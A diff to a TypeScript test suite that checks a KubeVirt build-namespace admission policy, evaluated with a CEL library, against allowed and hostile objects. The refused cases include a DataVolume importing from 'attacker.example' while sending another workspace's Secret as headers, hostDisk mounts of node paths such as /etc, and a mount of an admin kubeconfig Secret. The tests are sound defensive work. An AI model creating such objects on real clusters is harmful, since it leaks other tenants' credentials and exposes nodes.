@@ -2,43 +2,48 @@ import * as fs from "fs";
 import * as os from "os";
 import * as path from "path";
 import { parseAllDocuments } from "yaml";
-import { isCelError, run } from "@bufbuild/cel";
 import { admissionPolicyFile, admissionPolicyNames } from "../../../app/admission-policy";
-import { VM_LABEL_KEY } from "../../../templates/packer-builder";
+import {
+  BUILD_NAMESPACE_PREFIX,
+  TEMPLATE_NAMESPACE_LABEL,
+  VM_LABEL_KEY,
+} from "../../../templates/packer-builder";
+import { celPolicy, decide, type Verdict } from "./admission-evaluator";
 
-// The shared build namespace's admission policy (issue 33 item 3), tested offline with a
-// real CEL evaluator (@bufbuild/cel): the generated YAML is parsed and its own CEL
+// The build namespaces' admission policy (issue 33 item 3, issue 43 item 3), tested offline
+// with a real CEL evaluator (@bufbuild/cel): the generated YAML is parsed and its own CEL
 // expressions (match condition, variables in order, validations and their messages) are
 // evaluated as the API server evaluates a ValidatingAdmissionPolicy, against hostile and
-// ordinary KubeVirt objects. Each case is named; each refused case names what refuses it.
+// ordinary KubeVirt and CDI objects, in the shared namespace and in a workspace's own.
+// Each case is named; each refused case names what refuses it.
 
-const ME = "coder-0f4a2c1e-7b3d-4e5f-9a8b-1c2d3e4f5a6b";
+const ME_ID = "0f4a2c1e-7b3d-4e5f-9a8b-1c2d3e4f5a6b";
+const ME = `coder-${ME_ID}`;
 const OTHER = "coder-9d8c7b6a-5f4e-4d3c-8b2a-1f0e9d8c7b6a";
 const NS = "packer-dev";
+/** The workspace's own namespace in the per-workspace mode. */
+const OWN_NS = `${BUILD_NAMESPACE_PREFIX}${ME_ID}`;
 const sa = (name: string, namespace = NS) => `system:serviceaccount:${namespace}:${name}`;
 
 type Obj = Record<string, any>;
-interface Policy {
-  matchCondition: string;
-  variables: { name: string; expression: string }[];
-  validations: { expression: string; messageExpression: string }[];
-}
 
-const [policyDoc, bindingDoc] = parseAllDocuments(admissionPolicyFile()).map((d) => d.toJS());
-const POLICY: Policy = {
-  matchCondition: policyDoc.spec.matchConditions[0].expression,
-  variables: policyDoc.spec.variables,
-  validations: policyDoc.spec.validations,
-};
+const [policyDoc, ...bindingDocs] = parseAllDocuments(admissionPolicyFile()).map((d) => d.toJS());
+const POLICY = celPolicy(policyDoc);
 
-const KINDS: Record<string, { group: string; resource: string }> = {
-  VirtualMachine: { group: "kubevirt.io", resource: "virtualmachines" },
-  VirtualMachineInstance: { group: "kubevirt.io", resource: "virtualmachineinstances" },
+const KINDS: Record<string, { group: string; version: string; resource: string }> = {
+  VirtualMachine: { group: "kubevirt.io", version: "v1", resource: "virtualmachines" },
+  VirtualMachineInstance: {
+    group: "kubevirt.io",
+    version: "v1",
+    resource: "virtualmachineinstances",
+  },
   VirtualMachineInstanceReplicaSet: {
     group: "kubevirt.io",
+    version: "v1",
     resource: "virtualmachineinstancereplicasets",
   },
-  VirtualMachinePool: { group: "pool.kubevirt.io", resource: "virtualmachinepools" },
+  VirtualMachinePool: { group: "pool.kubevirt.io", version: "v1", resource: "virtualmachinepools" },
+  DataVolume: { group: "cdi.kubevirt.io", version: "v1beta1", resource: "datavolumes" },
 };
 
 interface Request {
@@ -47,43 +52,25 @@ interface Request {
   readonly username: string;
   readonly object: Obj | null;
   readonly oldObject?: Obj | null;
-}
-
-type Verdict = { matched: false } | { matched: true; refusals: string[] };
-
-function evaluate(expression: string, bindings: Obj): unknown {
-  const result = run(expression, bindings as never);
-  if (isCelError(result)) throw new Error(`CEL error in ${expression}: ${result.message}`);
-  return result;
+  /** @default the shared namespace */
+  readonly namespace?: string;
 }
 
 /** What the API server decides for `request` under the generated policy. */
 function admit(request: Request): Verdict {
-  const bindings: Obj = {
+  const { group, version, resource } = KINDS[request.kind];
+  return decide(POLICY, {
     request: {
-      kind: { group: KINDS[request.kind].group, version: "v1", kind: request.kind },
-      resource: {
-        group: KINDS[request.kind].group,
-        version: "v1",
-        resource: KINDS[request.kind].resource,
-      },
+      kind: { group, version, kind: request.kind },
+      resource: { group, version, resource },
+      subResource: "",
       operation: request.operation,
-      namespace: NS,
+      namespace: request.namespace ?? NS,
       userInfo: { username: request.username, groups: ["system:serviceaccounts"] },
     },
     object: request.object,
     oldObject: request.oldObject ?? null,
-  };
-  if (evaluate(POLICY.matchCondition, bindings) !== true) return { matched: false };
-  const variables: Obj = {};
-  for (const v of POLICY.variables) {
-    variables[v.name] = evaluate(v.expression, { ...bindings, variables });
-  }
-  const scope = { ...bindings, variables };
-  const refusals = POLICY.validations
-    .filter((v) => evaluate(v.expression, scope) !== true)
-    .map((v) => String(evaluate(v.messageExpression, scope)));
-  return { matched: true, refusals };
+  });
 }
 
 // --- Objects ------------------------------------------------------------------------------
@@ -93,16 +80,45 @@ const vmi = (volumes: Obj[] = [], extra: Obj = {}): Obj => ({
   volumes,
   ...extra,
 });
-const vm = (spec: Obj, owner: string | null = ME, vmExtra: Obj = {}): Obj => ({
+const vm = (
+  spec: Obj,
+  owner: string | null = ME,
+  vmExtra: Obj = {},
+  templateOwner: string | null = owner,
+): Obj => ({
   apiVersion: "kubevirt.io/v1",
   kind: "VirtualMachine",
   metadata: { name: "packer-1a2b3c", namespace: NS, labels: labels(owner) },
   spec: {
     runStrategy: "Always",
-    template: { metadata: { labels: labels(owner) }, spec },
+    template: { metadata: { labels: labels(templateOwner) }, spec },
     ...vmExtra,
   },
 });
+/** A standalone CDI DataVolume importing over http, with `http` fields added. */
+const dataVolume = (http: Obj, owner: string | null = ME): Obj => ({
+  apiVersion: "cdi.kubevirt.io/v1beta1",
+  kind: "DataVolume",
+  metadata: { name: "packer-iso-1a2b3c", labels: labels(owner) },
+  spec: {
+    source: { http: { url: "https://releases.example.com/a.iso", ...http } },
+    storage: { resources: { requests: { storage: "10Gi" } } },
+  },
+});
+const withNetworks = (networkName: string): Obj =>
+  vmi(ordinaryVolumes, {
+    networks: [
+      { name: "default", pod: {} },
+      { name: "build", multus: { networkName } },
+    ],
+  });
+const kernelBoot = (container: Obj): Obj =>
+  vmi(ordinaryVolumes, {
+    domain: {
+      devices: {},
+      firmware: { kernelBoot: { kernelArgs: "console=ttyS0", container } },
+    },
+  });
 const ordinaryVolumes = [
   { name: "rootdisk", persistentVolumeClaim: { claimName: "packer-1a2b3c-rootdisk" } },
   { name: "cloudinit", cloudInitNoCloud: { userData: "#cloud-config\npassword: packer\n" } },
@@ -174,14 +190,14 @@ const ALLOWED: [string, Request][] = [
     }),
   ],
   [
-    "a pool of own VMs",
+    "a pool of own VMs, its VM template and that template's VMI template labeled too",
     create("VirtualMachinePool", {
       metadata: { labels: labels(ME) },
       spec: {
         replicas: 1,
         virtualMachineTemplate: {
           metadata: { labels: labels(ME) },
-          spec: { template: { spec: vmi(ordinaryVolumes) } },
+          spec: { template: { metadata: { labels: labels(ME) }, spec: vmi(ordinaryVolumes) } },
         },
       },
     }),
@@ -207,6 +223,75 @@ const ALLOWED: [string, Request][] = [
     },
   ],
   [
+    "a VM with a configMap volume of its own (issue 43 item 3)",
+    create(
+      "VirtualMachine",
+      vm(vmi([...ordinaryVolumes, { name: "files", configMap: { name: `${ME}-answers` } }])),
+    ),
+  ],
+  [
+    "a kernel boot container pulled with its own pull secret (issue 43 item 3)",
+    create(
+      "VirtualMachine",
+      vm(kernelBoot({ image: "r/kernel:1", imagePullSecret: `${ME}-pull` })),
+    ),
+  ],
+  [
+    "a kernel boot container without a pull secret (issue 43 item 3)",
+    create("VirtualMachine", vm(kernelBoot({ image: "r/kernel:1" }))),
+  ],
+  [
+    "a VM on a Multus network of its own namespace, by name alone (issue 43 item 3)",
+    create("VirtualMachine", vm(withNetworks("build-vlan"))),
+  ],
+  [
+    "a VM on a Multus network of its own namespace, by namespace/name (issue 43 item 3)",
+    create("VirtualMachine", vm(withNetworks(`${NS}/build-vlan`))),
+  ],
+  [
+    "a VM on a Multus network of harvester-public, where the operators offer them (issue 43 item 3)",
+    create("VirtualMachine", vm(withNetworks("harvester-public/vlan-100"))),
+  ],
+  [
+    "a DataVolume importing with its own credentials and header Secrets (issue 43 item 3)",
+    create(
+      "DataVolume",
+      dataVolume({ secretRef: `${ME}-http`, secretExtraHeaders: [`${ME}-token-header`] }),
+    ),
+  ],
+  [
+    "an unlabeled DataVolume the build tools make, naming no Secret (issue 43 item 3)",
+    create("DataVolume", dataVolume({}, null)),
+  ],
+  [
+    "a delete of an unlabeled DataVolume (nobody's: docs/templates/packer-builder.md)",
+    {
+      kind: "DataVolume",
+      operation: "DELETE",
+      username: sa(ME),
+      object: null,
+      oldObject: dataVolume({}, null),
+    },
+  ],
+  [
+    "in its own namespace (per-workspace mode): an ordinary build VM (issue 43 item 3)",
+    {
+      ...create("VirtualMachine", vm(vmi(ordinaryVolumes)), sa(ME, OWN_NS)),
+      namespace: OWN_NS,
+    },
+  ],
+  [
+    "in its own namespace: a VM with its own cloud-init Secret (issue 43 item 3)",
+    {
+      ...create(
+        "VirtualMachine",
+        vm(vmi([{ name: "c", cloudInitNoCloud: { secretRef: { name: `${ME}-cloudinit` } } }])),
+        sa(ME, OWN_NS),
+      ),
+      namespace: OWN_NS,
+    },
+  ],
+  [
     "a delete of its own VM",
     {
       kind: "VirtualMachine",
@@ -225,6 +310,14 @@ const NOT_MATCHED: [string, Request][] = [
       "VirtualMachineInstance",
       { spec: vmi([{ name: "sa", serviceAccount: { serviceAccountName: OTHER } }]) },
       sa("kubevirt-controller", "harvester-system"),
+    ),
+  ],
+  [
+    "CDI's controller creating a DataVolume from a VM's template",
+    create(
+      "DataVolume",
+      dataVolume({ secretRef: "anything" }, null),
+      sa("cdi-sa", "harvester-system"),
     ),
   ],
   [
@@ -377,7 +470,7 @@ const REFUSED: [string, Request, string][] = [
         ],
       }),
     ),
-    "DataVolume template",
+    "import source",
   ],
   [
     "a pool whose VM template mounts another's Secret",
@@ -469,9 +562,222 @@ const REFUSED: [string, Request, string][] = [
     },
     "may update or delete only its own",
   ],
+  // Issue 43 item 3: the paths the first policy left open.
+  [
+    "a standalone DataVolume whose http secretExtraHeaders name another's Secret",
+    create("DataVolume", dataVolume({ secretExtraHeaders: [`${OTHER}-session`] })),
+    "import source (secretRef, http secretExtraHeaders)",
+  ],
+  [
+    "a standalone DataVolume whose secretExtraHeaders mix its own and an operator's Secret",
+    create(
+      "DataVolume",
+      dataVolume({ secretExtraHeaders: [`${ME}-header`, "harvester-admin-token"] }),
+    ),
+    "import source (secretRef, http secretExtraHeaders)",
+  ],
+  [
+    "a VM's DataVolume template whose http secretExtraHeaders name another's Secret",
+    create(
+      "VirtualMachine",
+      vm(vmi(ordinaryVolumes), ME, {
+        dataVolumeTemplates: [
+          {
+            spec: {
+              source: {
+                http: { url: "https://attacker.example/", secretExtraHeaders: [OTHER] },
+              },
+            },
+          },
+        ],
+      }),
+    ),
+    "import source (secretRef, http secretExtraHeaders)",
+  ],
+  [
+    "a standalone DataVolume (another workload than a VM) importing with another's http secretRef",
+    create("DataVolume", dataVolume({ secretRef: `${OTHER}-session` })),
+    "import source",
+  ],
+  [
+    "an unlabeled standalone DataVolume pulling from a registry with the namespace's pull secret",
+    create("DataVolume", {
+      metadata: { name: "x" },
+      spec: { source: { registry: { url: "docker://r/x:1", secretRef: "registry-credentials" } } },
+    }),
+    "import source",
+  ],
+  [
+    "a DataVolume labeled as another workspace's",
+    create("DataVolume", dataVolume({}, OTHER)),
+    "label it app.coder.io/workspace",
+  ],
+  [
+    "a delete of another workspace's DataVolume",
+    {
+      kind: "DataVolume",
+      operation: "DELETE",
+      username: sa(ME),
+      object: null,
+      oldObject: dataVolume({}, OTHER),
+    },
+    "may update or delete only its own",
+  ],
+  [
+    "a kernel boot container pulled with the namespace's pull secret",
+    create(
+      "VirtualMachine",
+      vm(kernelBoot({ image: "r/kernel:1", imagePullSecret: "registry-credentials" })),
+    ),
+    "kernelBoot container's imagePullSecret",
+  ],
+  [
+    "a kernel boot container of a VMI pulled with another workspace's Secret",
+    create("VirtualMachineInstance", {
+      metadata: { labels: labels(ME) },
+      spec: kernelBoot({ image: "r/kernel:1", imagePullSecret: `${OTHER}-pull` }),
+    }),
+    "kernelBoot container's imagePullSecret",
+  ],
+  [
+    "a configMap volume of another workspace",
+    create(
+      "VirtualMachine",
+      vm(vmi([...ordinaryVolumes, { name: "f", configMap: { name: `${OTHER}-answers` } }])),
+    ),
+    "may only name ConfigMaps called",
+  ],
+  [
+    "a configMap volume of an operator's ConfigMap",
+    create("VirtualMachine", vm(vmi([{ name: "f", configMap: { name: "kube-root-ca.crt" } }]))),
+    "may only name ConfigMaps called",
+  ],
+  [
+    "a sysprep answer file from another's ConfigMap",
+    create(
+      "VirtualMachine",
+      vm(vmi([{ name: "w", sysprep: { configMap: { name: `${OTHER}-sysprep` } } }])),
+    ),
+    "may only name ConfigMaps called",
+  ],
+  [
+    "a hostDisk volume (a directory of the node)",
+    create(
+      "VirtualMachine",
+      vm(
+        vmi([
+          ...ordinaryVolumes,
+          { name: "h", hostDisk: { path: "/var/lib/kubelet/pods", type: "Disk" } },
+        ]),
+      ),
+    ),
+    "hostDisk volume",
+  ],
+  [
+    "a hostDisk volume in a pool's VM template",
+    create("VirtualMachinePool", {
+      metadata: { labels: labels(ME) },
+      spec: {
+        virtualMachineTemplate: {
+          metadata: { labels: labels(ME) },
+          spec: {
+            template: {
+              metadata: { labels: labels(ME) },
+              spec: vmi([{ name: "h", hostDisk: { path: "/etc", type: "DiskOrCreate" } }]),
+            },
+          },
+        },
+      },
+    }),
+    "hostDisk volume",
+  ],
+  [
+    "a Multus network of another namespace",
+    create("VirtualMachine", vm(withNetworks("harvester-system/mgmt"))),
+    "Multus networks of its own namespace or of harvester-public",
+  ],
+  [
+    "a Multus network of a namespace whose name only starts like an offered one",
+    create("VirtualMachine", vm(withNetworks("harvester-public-admin/vlan"))),
+    "Multus networks",
+  ],
+  [
+    "in its own namespace: a Multus network of the shared namespace",
+    {
+      ...create("VirtualMachine", vm(withNetworks(`${NS}/build-vlan`)), sa(ME, OWN_NS)),
+      namespace: OWN_NS,
+    },
+    "Multus networks",
+  ],
+  [
+    "a VM whose VMI template lacks the workspace label",
+    create("VirtualMachine", vm(vmi(ordinaryVolumes), ME, {}, null)),
+    "label its templates too",
+  ],
+  [
+    "a VM whose VMI template is labeled as another workspace's",
+    create("VirtualMachine", vm(vmi(ordinaryVolumes), ME, {}, OTHER)),
+    "label its templates too",
+  ],
+  [
+    "an update that relabels its VM's template as another workspace's",
+    {
+      kind: "VirtualMachine",
+      operation: "UPDATE",
+      username: sa(ME),
+      object: vm(vmi(ordinaryVolumes), ME, {}, OTHER),
+      oldObject: vm(vmi(ordinaryVolumes)),
+    },
+    "label its templates too",
+  ],
+  [
+    "a replica set whose VMI template lacks the workspace label",
+    create("VirtualMachineInstanceReplicaSet", {
+      metadata: { labels: labels(ME) },
+      spec: { template: { spec: vmi(ordinaryVolumes) } },
+    }),
+    "label its templates too",
+  ],
+  [
+    "a pool whose VMI template (inside its VM template) is labeled as another's",
+    create("VirtualMachinePool", {
+      metadata: { labels: labels(ME) },
+      spec: {
+        virtualMachineTemplate: {
+          metadata: { labels: labels(ME) },
+          spec: { template: { metadata: { labels: labels(OTHER) }, spec: vmi(ordinaryVolumes) } },
+        },
+      },
+    }),
+    "label its templates too",
+  ],
+  [
+    "in its own namespace: a secret volume of a Secret not its own",
+    {
+      ...create(
+        "VirtualMachine",
+        vm(vmi([{ name: "s", secret: { secretName: "harvester-admin-kubeconfig" } }])),
+        sa(ME, OWN_NS),
+      ),
+      namespace: OWN_NS,
+    },
+    SECRET_REFUSAL,
+  ],
+  [
+    "in its own namespace: a serviceAccount volume",
+    {
+      ...create(
+        "VirtualMachine",
+        vm(vmi([{ name: "sa", serviceAccount: { serviceAccountName: "default" } }])),
+        sa(ME, OWN_NS),
+      ),
+      namespace: OWN_NS,
+    },
+    "serviceAccount volume",
+  ],
 ];
 
-describe("the shared build namespace's admission policy, evaluated with @bufbuild/cel", () => {
+describe("the build namespaces' admission policy, evaluated with @bufbuild/cel", () => {
   it.each(ALLOWED)("allows %s", (_name, request) => {
     expect(admit(request)).toEqual({ matched: true, refusals: [] });
   });
@@ -493,13 +799,26 @@ describe("the shared build namespace's admission policy, evaluated with @bufbuil
     expect(verdict.matched && verdict.refusals[0]).toContain(sa(ME));
   });
 
-  it("binds the policy to the build namespace only, denying on failure", () => {
+  it("binds the policy to the shared namespace and to every namespace the template labels, denying on failure (issue 43 item 3)", () => {
     expect(policyDoc.spec.failurePolicy).toBe("Fail");
-    expect(bindingDoc.spec).toEqual({
-      policyName: policyDoc.metadata.name,
-      validationActions: ["Deny"],
-      matchResources: { namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": NS } } },
-    });
+    expect(bindingDocs.map((b) => b.spec)).toEqual([
+      {
+        policyName: policyDoc.metadata.name,
+        validationActions: ["Deny"],
+        matchResources: {
+          namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": NS } },
+        },
+      },
+      {
+        policyName: policyDoc.metadata.name,
+        validationActions: ["Deny"],
+        matchResources: {
+          namespaceSelector: {
+            matchLabels: { [TEMPLATE_NAMESPACE_LABEL.key]: TEMPLATE_NAMESPACE_LABEL.value },
+          },
+        },
+      },
+    ]);
     const rules = policyDoc.spec.matchConstraints.resourceRules;
     expect(rules.flatMap((r: Obj) => r.resources).sort()).toEqual(
       Object.values(KINDS)
@@ -507,6 +826,39 @@ describe("the shared build namespace's admission policy, evaluated with @bufbuil
         .sort(),
     );
     for (const rule of rules) expect(rule.operations).toEqual(["CREATE", "UPDATE", "DELETE"]);
+  });
+
+  it("does not constrain a workspace identity acting in another namespace than its own", () => {
+    // Its RBAC holds nowhere else; its names would never be "its own" there anyway.
+    const request = create("VirtualMachine", vm(vmi([])), sa(ME, OWN_NS));
+    expect(admit(request)).toEqual({ matched: false });
+  });
+
+  it("takes the namespaces whose Multus networks are offered from the command", () => {
+    const [policy] = parseAllDocuments(
+      admissionPolicyFile({ networkNamespaces: ["build-networks"] }),
+    ).map((d) => d.toJS());
+    const verdict = (networkName: string) =>
+      decide(celPolicy(policy), {
+        request: {
+          kind: { group: "kubevirt.io", version: "v1", kind: "VirtualMachine" },
+          resource: { group: "kubevirt.io", version: "v1", resource: "virtualmachines" },
+          subResource: "",
+          operation: "CREATE",
+          namespace: NS,
+          userInfo: { username: sa(ME), groups: [] },
+        },
+        object: vm(withNetworks(networkName)),
+        oldObject: null,
+      });
+    expect(verdict("build-networks/vlan")).toEqual({ matched: true, refusals: [] });
+    expect(verdict("harvester-public/vlan")).toEqual({
+      matched: true,
+      refusals: ["a VM may only join Multus networks of its own namespace or of build-networks"],
+    });
+    expect(() => admissionPolicyFile({ networkNamespaces: ["Bad Name"] })).toThrow(
+      '--network-namespace "Bad Name": must be a namespace name (DNS-1123 label)',
+    );
   });
 
   it("is generated from the operator's identity namespace", () => {
@@ -521,10 +873,13 @@ describe("the shared build namespace's admission policy, evaluated with @bufbuil
         namespace: "builds",
         identityPrefix: "coder-",
         labelKey: VM_LABEL_KEY,
+        namespaceLabel: TEMPLATE_NAMESPACE_LABEL,
+        networkNamespaces: ["harvester-public"],
       });
       const [policy, binding] = parseAllDocuments(admissionPolicyFile(file)).map((d) => d.toJS());
+      expect(policy.metadata.name).toBe("packer-builder-own-objects-builds");
       expect(policy.spec.matchConditions[0].expression).toBe(
-        "request.userInfo.username.startsWith('system:serviceaccount:builds:coder-')",
+        "request.userInfo.username.startsWith('system:serviceaccount:' + request.namespace + ':' + 'coder-')",
       );
       expect(binding.spec.matchResources.namespaceSelector.matchLabels).toEqual({
         "kubernetes.io/metadata.name": "builds",
